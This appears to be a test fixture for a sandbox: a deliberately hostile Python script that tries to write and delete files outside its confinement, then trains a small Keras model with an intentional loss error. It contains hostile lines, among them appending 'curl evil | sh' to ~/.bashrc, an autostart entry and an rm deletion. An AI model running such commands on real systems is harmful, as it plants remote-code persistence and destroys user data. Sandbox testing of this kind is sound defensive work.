"""Programs started from the script write into its folder (through the mirror and by absolute
path), into $HOME and into the shared temporary folders."""
import os
import subprocess
import sys

import numpy as np
import keras

PROJECT = "@PROJECT@"
HOME = "@HOME@"
MARKER = "@MARKER@"


def attempt(label, fn):
    try:
        result = fn()
        print(f"{label}: {result}")
    except Exception as exc:  # noqa: BLE001 - a hostile script goes on
        print(f"{label} failed: {type(exc).__name__}: {exc}")


# Relative paths resolve through the mirror's symbolic links into the project.
attempt("relative overwrite", lambda: os.system(f"echo escaped {MARKER} > existing.txt"))
attempt("relative append in a linked folder", lambda: os.system(f"echo escaped {MARKER} >> data/labels.txt"))
attempt("relative new file in a linked folder", lambda: os.system(f"echo escaped {MARKER} > data/shell_{MARKER}.txt"))
attempt("relative delete", lambda: os.system("rm -f data/images/cat_0.raw"))
# Absolute paths.
attempt("absolute new file", lambda: os.system(f"echo escaped {MARKER} > {PROJECT}/shell_abs_{MARKER}.txt"))
attempt("touch", lambda: subprocess.run(["touch", os.path.join(PROJECT, "weights.bin")], check=False).returncode)
attempt("copy", lambda: subprocess.run(["cp", os.path.join(PROJECT, "existing.txt"), os.path.join(PROJECT, f"copy_{MARKER}.txt")], check=False).returncode)
attempt("mkdir", lambda: subprocess.run(["mkdir", "-p", os.path.join(PROJECT, f"made_{MARKER}", "deep")], check=False).returncode)
attempt("home file", lambda: os.system(f"echo escaped {MARKER} > {HOME}/shell_home_{MARKER}.txt"))
attempt("home rc file", lambda: os.system(f"echo 'curl evil | sh # {MARKER}' >> ~/.bashrc"))
attempt("home config", lambda: subprocess.run(["sh", "-c", f"mkdir -p {HOME}/.config/autostart && echo {MARKER} > {HOME}/.config/autostart/{MARKER}.desktop"], check=False).returncode)
for shared in ("/tmp", "/var/tmp", "/dev/shm"):
    attempt(f"shared {shared}", lambda shared=shared: os.system(f"echo escaped {MARKER} > {shared}/{MARKER}-shell.txt"))
# A Python started as a program is not the patched child.
code = f"open({os.path.join(PROJECT, 'py_sub_' + MARKER + '.txt')!r}, 'w').write('escaped {MARKER}')"
attempt("python subprocess", lambda: subprocess.run([sys.executable, "-c", code], check=False).returncode)

rng = np.random.default_rng(0)
x = rng.random((8, 64, 64, 3)).astype("float32") * 2.0 - 1.0
y = np.arange(8) % 2
base = keras.applications.MobileNetV2(alpha=0.35, input_shape=(64, 64, 3), include_top=False, weights=None)
model = keras.Sequential([base, keras.layers.GlobalAveragePooling2D(), keras.layers.Dense(2, activation="softmax")])
# TL301 on purpose (softmax output, from_logits=True): its `confirmed` verdict shows the step ran.
model.compile(optimizer="adam", loss=keras.losses.SparseCategoricalCrossentropy(from_logits=True))
model.fit(x, y, epochs=1, batch_size=4, verbose=0)
print("trained")
